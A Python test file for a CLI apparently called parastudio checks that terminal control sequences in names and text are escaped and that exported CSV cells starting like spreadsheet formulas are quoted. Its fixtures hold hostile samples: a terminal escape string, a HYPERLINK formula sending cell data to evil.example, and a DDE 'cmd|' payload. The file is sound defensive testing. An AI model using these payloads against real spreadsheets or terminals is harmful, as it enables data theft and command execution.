"""Issue 22, Found 8: other people's files neither drive our terminal nor run in a spreadsheet.

Human-readable output escapes control characters (C0 but tab and newline, DEL, C1), whatever command prints
a name or a text; JSON output keeps its values (JSON escapes C0; its DEL and C1 become JSON escapes). Every
CSV writer quotes a text cell a spreadsheet would run as a formula (OWASP), leaves numbers alone, and keeps
cells as they are with ``--raw``; a quoted export reads back as it was.
"""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import re
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from fuzz_support import run_cli
from hypothesis import assume, given
from hypothesis import strategies as st

from parastudio.core.csv_cells import neutralize, restore
from parastudio.core.terminal_text import escape_controls

ROOT = Path(__file__).resolve().parent.parent
ATTACK = "\x1b]0;pwned\x07\x1b[2J\x9b31m\x7f\x08X"  # set the title, clear the screen, C1 CSI, DEL, a backspace
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f\x80-\x9f]")
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3+cmd|x",
            "\t=1+1"]  # and "\r=1+1", which our CSV readers refuse inside a field: see the last test


@given(st.text())
def test_escaped_text_holds_no_control_and_reads_back_as_the_text(text):
    assume("\\x" not in text)  # then every \xNN of the shown text is an escape
    shown = escape_controls(text)
    assert not RAW_CONTROL.search(shown)
    assert re.sub(r"\\x([0-9a-f]{2})", lambda m: chr(int(m.group(1), 16)), shown) == text
    assert escape_controls(shown) == shown  # nothing left to escape


@given(st.text(min_size=1))
def test_a_neutralized_cell_is_no_formula_and_reads_back_as_it_was(text):
    cell = neutralize(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or _is_number(text)
    assert restore(cell) == text


@given(st.floats(allow_nan=False) | st.integers().map(float), st.booleans())
def test_numbers_are_untouched(number, signed):
    text = f"{number:+}" if signed else repr(number)
    assume(text.startswith(("-", "+")))  # the cells a formula check would otherwise catch
    assert neutralize(text) == text


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _judgments(tmp_path, annotator: str) -> Path:
    path = tmp_path / "j.csv"
    rows = [("1", "ann1", "yes"), ("1", annotator, "yes"), ("2", "ann1", "no"), ("2", annotator, "no"),
            ("3", "ann1", "no"), ("3", annotator, "yes")]
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle, lineterminator="\n")
        writer.writerow(["item", "annotator", "criterion", "value"])
        writer.writerows((item, who, "fluency", value) for item, who, value in rows)
    return path


def on_terminal(argv: list[str], stdin: bytes = b"") -> tuple[int, str]:
    """The CLI in a subprocess whose standard output and error are a pseudo-terminal: its exit status and what
    the terminal received."""
    controller, terminal = pty.openpty()
    process = subprocess.Popen([sys.executable, "-m", "parastudio", *argv], stdin=subprocess.PIPE, stdout=terminal,
                               stderr=terminal, env={**os.environ, "PYTHONPATH": str(ROOT)})
    os.close(terminal)
    process.stdin.write(stdin)
    process.stdin.close()
    received = b""
    while True:
        try:
            chunk = os.read(controller, 65536)
        except OSError:  # the child closed the terminal
            break
        if not chunk:
            break
        received += chunk
    os.close(controller)
    return process.wait(), received.decode("utf-8").replace("\r\n", "\n")  # the line discipline adds \r


def _study_with_an_attacking_name(tmp_path) -> Path:
    """A judged study whose annotator's name attacks the terminal. The CLI refuses such a name at the door (issue
    39), so another program writes it in, as one could: what is stored must still reach a terminal escaped."""
    study = tmp_path / "attack.sqlite"
    assert run_cli(["study", "create", "s", "--db", str(study), "--criteria", "fluency"])[0] == 0
    candidates = tmp_path / "c.jsonl"
    candidates.write_text("".join(json.dumps({"sentence_id": i, "system": f"sys{i % 2}", "text": f"text {i}",
                                              "source": f"source {i}"}) + "\n" for i in range(3)), encoding="utf-8")
    assert run_cli(["study", "import-candidates", str(candidates), "--db", str(study)])[0] == 0
    status, _out, err = run_cli(["study", "import-judgments", str(_judgments(tmp_path, "ann2")), "--db", str(study)])
    assert status == 0, err
    with sqlite3.connect(study) as connection:
        connection.execute("UPDATE annotator SET name = ? WHERE name = 'ann2'", ("ann" + ATTACK,))
    connection.close()
    return study


def test_a_name_that_attacks_the_terminal_is_refused_at_the_door_in_escaped_words(tmp_path):
    status, text = on_terminal(["report", str(_judgments(tmp_path, "ann" + ATTACK)), "--bootstrap", "0"])
    assert status == 2 and "control" in text and "ann\\x1b]0;pwned" in text and not RAW_CONTROL.search(
        text.replace("\n", "")), text


def test_names_from_a_study_reach_a_terminal_escaped_and_json_with_the_same_values(tmp_path):
    study = _study_with_an_attacking_name(tmp_path)
    status, text = on_terminal(["report", str(study), "--bootstrap", "0"])
    assert status == 0, text
    assert "ann\\x1b]0;pwned\\x07\\x1b[2J\\x9b31m\\x7f\\x08X" in text and not RAW_CONTROL.search(text)
    status, text = on_terminal(["report", str(study), "--bootstrap", "0", "--format", "json"])
    assert status == 0 and "ann" + ATTACK in _strings(json.loads(text))  # DEL and C1 as \u escapes: same values
    assert not RAW_CONTROL.search(text)


def test_a_pipe_gets_the_bytes_as_they_are(tmp_path):
    """What reads a pipe is a program: a CSV keeps its CRLF and a name its own characters."""
    status, out, err = run_cli(["report", str(_study_with_an_attacking_name(tmp_path)), "--bootstrap", "0",
                                "--format", "json"])
    assert status == 0 and "ann" + ATTACK in _strings(json.loads(out)), err
    study = _study_with_formulas(tmp_path)
    piped = subprocess.run([sys.executable, "-m", "parastudio", "study", "export-judgments", "--db", str(study), "-o", "-"],
                           capture_output=True, env={**os.environ, "PYTHONPATH": str(ROOT)})
    written = tmp_path / "j.csv"
    assert run_cli(["study", "export-judgments", "--db", str(study), "-o", str(written)])[0] == 0
    assert piped.returncode == 0 and piped.stdout == written.read_bytes()


def _strings(value) -> set[str]:
    if isinstance(value, str):
        return {value}
    if isinstance(value, dict):
        value = [*value.keys(), *value.values()]
    return set().union(*map(_strings, value)) if isinstance(value, list) else set()


def test_generated_text_and_error_messages_reach_a_terminal_escaped(tmp_path):
    from parastudio.core.demo import demo_files

    demo = demo_files()
    table = tmp_path / "t.txt"
    table.write_text(f"the dog ||| the be{ATTACK}ast ||| 0.9\n", encoding="utf-8")
    status, text = on_terminal(["generate", "--system", "beam", "--table", str(table), "--lm", str(demo.lm),
                                "--exclude-source"], stdin=b"the dog\n")
    candidates = text.split("\r")[0]  # what follows is our own progress bar, drawn with carriage returns
    assert status == 0 and "be\\x1b]0;pwned" in candidates and not RAW_CONTROL.search(candidates), text
    bad = tmp_path / "bad.jsonl"
    bad.write_text('{"sentence_id": 0, "system": "be\x1b[2Jam", "text": 3}\n', encoding="utf-8")
    study = tmp_path / "s.sqlite"
    assert run_cli(["study", "create", "s", "--db", str(study)])[0] == 0
    status, text = on_terminal(["study", "import-candidates", str(bad), "--db", str(study)])
    assert status == 2 and not RAW_CONTROL.search(text.replace("\n", "")), text


def test_a_terminal_gets_no_raw_control_character(tmp_path):
    """The real thing, end to end: the report of a study whose annotator's name attacks the terminal."""
    status, text = on_terminal(["report", str(_study_with_an_attacking_name(tmp_path)), "--bootstrap", "0"])
    assert status == 0
    assert "pwned" in text and not RAW_CONTROL.search(text)


def _study_with_formulas(tmp_path) -> Path:
    study = tmp_path / "s.sqlite"
    assert run_cli(["study", "create", "s", "--db", str(study), "--criteria", "fluency"])[0] == 0
    candidates = tmp_path / "c.jsonl"
    candidates.write_text("".join(json.dumps({"sentence_id": i, "system": "@sys", "text": formula,
                                              "source": f"source {i}"}) + "\n"
                                  for i, formula in enumerate(FORMULAS)), encoding="utf-8")
    assert run_cli(["study", "import-candidates", str(candidates), "--db", str(study)])[0] == 0
    judgments = tmp_path / "j.csv"
    with judgments.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle, lineterminator="\n")
        writer.writerow(["item", "annotator", "criterion", "value", "comment"])
        for item in range(1, len(FORMULAS) + 1):
            for annotator in ("@judge", "-3.5"):
                writer.writerow([item, annotator, "fluency", "yes", "=1+2"])
    status, _out, err = run_cli(["study", "import-judgments", str(judgments), "--db", str(study)])
    assert status == 0, err
    return study


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _formula_cells(cells: list[str]) -> list[str]:
    return [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not _is_number(cell)]


def test_every_csv_writer_quotes_formulas_and_raw_keeps_them(tmp_path):
    study = _study_with_formulas(tmp_path)
    writers = {
        "export-judgments": ["study", "export-judgments", "--db", str(study)],
        "items": ["study", "items", str(study), "--format", "csv"],
        "export-scores": ["study", "export-scores", str(study), "--criterion", "fluency"],
        "inspect": ["inspect", str(study), "--format", "csv"],
        "report": ["report", str(study), "--bootstrap", "0", "--format", "csv"],
        "export-devset": ["export-devset", str(study), "--format", "csv", "-o", str(tmp_path / "dev.csv")],
    }
    for name, argv in writers.items():
        results = []
        for raw in (False, True):
            status, out, err = run_cli(argv + (["--raw"] if raw else []))
            assert status == 0, (name, err)
            if name == "export-devset":
                out = (tmp_path / "dev.csv").read_text(encoding="utf-8")
            results.append(_cells(out))
        quoted, kept = results
        assert _formula_cells(kept), name  # the data does reach this writer
        assert _formula_cells(quoted) == [], (name, _formula_cells(quoted))
        assert [restore(cell) for cell in quoted] == kept, name  # the quote is all that changed
        if name == "export-judgments":
            assert "-3.5" in quoted and "'@judge" in quoted  # a number stays a number


def test_a_quoted_judgments_export_imports_back_unchanged(tmp_path):
    study = _study_with_formulas(tmp_path)
    exported = tmp_path / "out.csv"
    assert run_cli(["study", "export-judgments", "--db", str(study), "-o", str(exported)])[0] == 0
    assert "'@judge" in exported.read_text(encoding="utf-8")
    status, out, err = run_cli(["study", "import-judgments", str(exported), "--db", str(study)])
    assert status == 0, err
    status, again, _err = run_cli(["study", "export-judgments", "--db", str(study), "--raw"])
    annotators = {row["annotator"] for row in csv.DictReader(io.StringIO(again))}
    assert annotators == {"@judge", "-3.5"}


def test_jsonl_exports_are_never_altered(tmp_path):
    study = _study_with_formulas(tmp_path)
    status, out, _err = run_cli(["study", "export-judgments", "--db", str(study), "--format", "jsonl"])
    assert status == 0
    assert {json.loads(line)["annotator"] for line in out.splitlines()} == {"@judge", "-3.5"}
    assert {json.loads(line)["comment"] for line in out.splitlines()} == {"=1+2"}


@pytest.mark.parametrize("cell", [*FORMULAS, "\r=1+1"])
def test_each_formula_start_is_quoted(cell):
    assert neutralize(cell) == "'" + cell
